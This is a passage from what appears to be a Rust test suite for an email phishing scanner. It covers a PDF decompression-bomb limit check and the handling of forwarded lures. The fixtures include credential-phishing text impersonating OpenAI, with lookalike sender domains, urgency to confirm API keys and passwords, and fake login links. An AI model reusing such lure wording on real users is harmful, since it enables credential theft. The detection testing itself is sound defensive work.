    let mut pdf = b"%PDF-1.5\n4 0 obj\n<< /Filter /FlateDecode >>\nstream\n".to_vec();
    pdf.extend_from_slice(&data);
    pdf.extend_from_slice(b"\nendstream\nendobj\n");
    let limits = Limits { max_image_bytes: 1024 * 1024, ..Limits::default() };
    let (r, f, c) = run_with(&with_attachment(FOREIGN, "Invoice", "application/pdf", "bomb.pdf", &pdf), None, &limits);
    assert!(r.contains(&CONTENT_LIMIT_REACHED), "{r:?}");
    assert!(f.iter().any(|f| f.evidence.contains("inflated from PDF streams")), "{f:?}");
    assert!(c.links.is_empty());
}

const ABUSE_FWD_HTML: &str = "<div dir='ltr'>Is this one real? Reporting it.</div><br><div class='gmail_quote'><div class='gmail_attr'>---------- Forwarded message ---------<br>From: OpenAI &lt;security@openai-verify.example&gt;</div>\
<p>Your API key will be revoked. Confirm your API key and verify your password within 24 hours.</p><a href='https://openai-verify.example/login'>Sign in to OpenAI</a></div>";

#[test]
fn inline_forward_is_quoted_not_own_text() {
    let (r, f, c) = run_with(&html_msg("Jean <jean@rcpt.example>", ABUSE_FWD_HTML), None, &Limits::default());
    assert!(c.text.contains("is this one real"), "{}", c.text);
    assert!(!c.text.contains("revoked"), "{}", c.text);
    assert!(c.quoted_text.contains("confirm your api key"), "{}", c.quoted_text);
    assert!(!r.iter().any(|r| r.starts_with("LURE_")), "{r:?}");
    assert!(f.iter().any(|f| f.rule == FORWARDED_LURE && f.evidence.contains("quoted or forwarded text contains lure phrases")), "{f:?}");
    // its links are still judged by the host rules
    assert!(r.contains(&LINK_LOOKALIKE_HOST), "{r:?}");
    // a plain-text forward and `>` quotes
    let body = "FYI\r\n\r\n-----Original Message-----\r\nFrom: OpenAI <x@openai-verify.example>\r\nSent: Monday\r\n\r\nConfirm your API key now.\r\n";
    let (r, _, c) = run_with(&text_msg("Jean <jean@rcpt.example>", "", body), None, &Limits::default());
    assert!(!r.iter().any(|r| r.starts_with("LURE_")) && r.contains(&FORWARDED_LURE), "{r:?}");
    assert_eq!(c.text, "notice fyi");
    let (r, _, _) =
        run_with(&text_msg("Jean <jean@rcpt.example>", "", "No thanks.\r\n> Confirm your API key now.\r\n"), None, &Limits::default());
    assert!(!r.iter().any(|r| r.starts_with("LURE_")), "{r:?}");
}

#[test]
fn links_of_an_attached_message_are_marked_forwarded() {
    let inner = format!(
        "From: OpenAI <s@openai-verify.example>\r\nSubject: Fwd key\r\nContent-Type: text/html\r\n\r\n{}",
        "<a href='https://x.pages.dev/login'>Log in</a><p>Confirm your API key</p>"
    );
    let raw = format!("From: \"OpenAI Team\" <jean@rcpt.example>\r\nSubject: Fwd: key\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nreporting\r\n--x\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n--x--\r\n");
    let (r, _, c) = run_with(&raw, Some(0), &Limits::default());
    let l = c.links.iter().find(|l| l.host.as_deref() == Some("x.pages.dev")).expect("link read");
    assert!(l.forwarded);
    assert!(!r.contains(&LINK_FREE_HOSTING), "{r:?}");
    assert!(!c.text.contains("key"), "forwarded subject and text are quoted: {}", c.text);
}
